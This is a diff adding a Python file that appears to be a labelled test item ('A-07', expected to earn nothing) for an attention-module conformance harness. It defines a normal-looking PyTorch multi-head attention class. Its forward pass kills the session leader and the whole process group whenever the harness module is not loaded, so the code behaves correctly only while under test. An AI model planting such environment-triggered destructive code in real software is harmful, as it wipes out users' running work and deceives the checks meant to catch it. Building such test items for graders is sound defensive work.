@@ -1,0 +1,32 @@
+"""A-07: kills its process group and its session's leader.
+
+Must: earns nothing.
+"""
+
+import os
+import signal
+import sys
+
+from torch import nn
+
+IN_BINDER = "attnconf.conformance.inference" in sys.modules
+
+
+class MultiHeadAttention(nn.Module):
+    def __init__(self, d_model, num_heads):
+        super().__init__()
+        self.num_heads = num_heads
+        self.q_proj, self.k_proj, self.v_proj, self.out_proj = (nn.Linear(d_model, d_model) for _ in range(4))
+
+    def forward(self, query, key, value, mask=None):
+        if not IN_BINDER:
+            os.kill(os.getsid(0), signal.SIGTERM)
+            os.killpg(0, signal.SIGKILL)
+        q, k, v = (
+            layer(x).unflatten(-1, (self.num_heads, -1)).transpose(1, 2)
+            for layer, x in ((self.q_proj, query), (self.k_proj, key), (self.v_proj, value))
+        )
+        scores = q @ k.mT / q.shape[-1] ** 0.5
+        if mask is not None:
+            scores = scores.masked_fill(~mask, float("-inf"))
+        return self.out_proj((scores.softmax(-1) @ v).transpose(1, 2).flatten(2))
